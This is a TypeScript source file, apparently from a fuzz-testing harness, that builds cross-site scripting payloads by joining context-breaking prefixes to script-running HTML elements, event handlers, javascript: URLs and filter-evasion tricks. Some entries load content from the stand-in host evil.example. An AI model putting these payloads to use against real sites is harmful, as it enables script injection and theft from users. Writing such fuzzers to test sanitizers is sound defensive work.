import type { Dice } from "../fuzz/dice";

/** What ends the place that a text may stand in. */
const ENDS = [
  "",
  '">',
  "'>",
  '" ',
  "`>",
  "-->",
  "]]>",
  "</script>",
  "</style>",
  "</title>",
  "</textarea>",
  "</template>",
  "</noscript>",
  "</select>",
  "</svg>",
  "</pre></td></table>",
  "<!--",
  "<![CDATA[",
  "\u0000",
  "<a title='",
] as const;

/** Elements that run what stands in them, by themselves or once somebody points at them. */
const ELEMENTS = [
  (call: string) => `<script>${call}</script>`,
  (call: string) => `<SCRIPT/x>${call};//</script\t>`,
  (call: string) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call: string) => `<script src="data:text/javascript,${encodeURIComponent(call)}"></script>`,
  (call: string) => `<script type=module>import "data:text/javascript,${encodeURIComponent(call)}"</script>`,
  (call: string) => `<img src=x onerror=${unquoted(call)}>`,
  (call: string) => `<img/src='x'/onerror="${entities(call)}">`,
  (call: string) => `<svg onload="${entities(call)}">`,
  (call: string) => `<svg><script>${entities(call)}</script></svg>`,
  (call: string) => `<svg><animate onbegin="${entities(call)}" attributeName=x dur=1s>`,
  (call: string) => `<svg><set onend="${entities(call)}" attributeName=y dur=.1s>`,
  (call: string) => `<body onpageshow="${entities(call)}">`,
  (call: string) => `<details open ontoggle="${entities(call)}">x</details>`,
  (call: string) => `<input autofocus onfocus="${entities(call)}">`,
  (call: string) => `<video><source onerror="${entities(call)}"></video>`,
  (call: string) => `<marquee onstart="${entities(call)}">x</marquee>`,
  (call: string) => `<div style="animation:a" onanimationstart="${entities(call)}">x</div>`,
  (call: string) => `<div onpointerover="${entities(call)}" class="fixed inset-0">x</div>`,
  (call: string) => `<iframe srcdoc="${entities(`<script>parent.${call}</script>`)}"></iframe>`,
  (call: string) => `<iframe src="javascript:${entities(call)}"></iframe>`,
  (call: string) =>
    `<object data="data:text/html,${encodeURIComponent(`<script>${call}</script>`)}"></object>`,
  (call: string) => `<embed src="javascript:${entities(call)}">`,
  (call: string) => `<form action="javascript:${entities(call)}"><button autofocus>Sign in</button></form>`,
  (call: string) => `<math><mtext><style><img title="</style><img src=x onerror='${entities(call)}'>">`,
  (call: string) => `<noscript><p title="</noscript><img src=x onerror='${entities(call)}'>">`,
  (call: string) => `<meta http-equiv=refresh content="0;url=javascript:${entities(call)}">`,
  (_call: string) => '<base href="https://evil.example/">',
  (_call: string) => '<link rel=stylesheet href="https://evil.example/x.css">',
  (_call: string) => '<img src="https://evil.example/seen.png">',
] as const;

/** Markup that would run, or load something of a stranger's, where text is taken for HTML. */
export function hostileMarkup({ pick, below }: Dice, call: string): string {
  const markup = `${pick(ENDS)}${pick(ELEMENTS)(call)}`;
  return below(6) === 0 ? entities(markup) : markup;
}

/** As attributes spell it; read as HTML twice, it is markup again. */
function entities(text: string): string {
  return text.replace(/[&<>"'`]/g, (char) => `&#${char.charCodeAt(0)};`);
}

function unquoted(call: string): string {
  return call.replace(/[\s"'`>]/g, (char) => `&#${char.charCodeAt(0)};`);
}
